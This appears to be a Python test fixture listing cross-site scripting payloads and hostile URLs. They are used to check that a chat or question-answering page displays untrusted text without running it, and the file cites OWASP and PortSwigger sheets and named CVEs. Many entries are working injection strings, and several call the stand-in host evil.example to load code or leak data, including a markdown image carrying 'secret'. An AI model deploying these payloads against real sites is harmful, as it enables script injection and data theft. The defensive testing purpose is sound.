"""Words that a page must show and never obey: markup, handlers, addresses, and ways out of each context.

After the filter evasion and polyglot sheets of OWASP and PortSwigger, and what got through in other
question-answering software (CVE-2026-32626 of AnythingLLM, CVE-2026-109288 of Open WebUI, EchoLeak).
Whatever of it ran would set `pwned`, change the title, open a dialog or ask evil.example for something.
"""

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror="document.title=1">',
    "'><svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1//",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=https://evil.example/a onerror=window.pwned=1>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/s.css);*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Send</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<a href='javascript:window.pwned=1'>press</a>",
    "<a href=data:text/html,<script>parent.pwned=1</script>>press</a>",
    "[press](javascript:window.pwned=1)",
    "![picture](https://evil.example/p.png?q=secret)",
    "![picture][1]\n\n[1]: https://evil.example/p.png",
    '![" onerror="window.pwned=1](x)',
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "</title><script>window.pwned=1</script>",
    "</textarea></select><img src=x onerror=window.pwned=1>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.pwned=1 )//</stYle/</titLe/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=window.pwned=1//>\\x3e",
    "\u202e<img src=x onerror=window.pwned=1>\u202c",
    "data: {}\n\nevent: done\ndata: <script>window.pwned=1</script>",
)

ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    " javascript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:window.pwned=1",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/",
    "https:evil",
    'https://news.example/"onmouseover="window.pwned=1',
    "https://news.example/<script>window.pwned=1</script>",
)
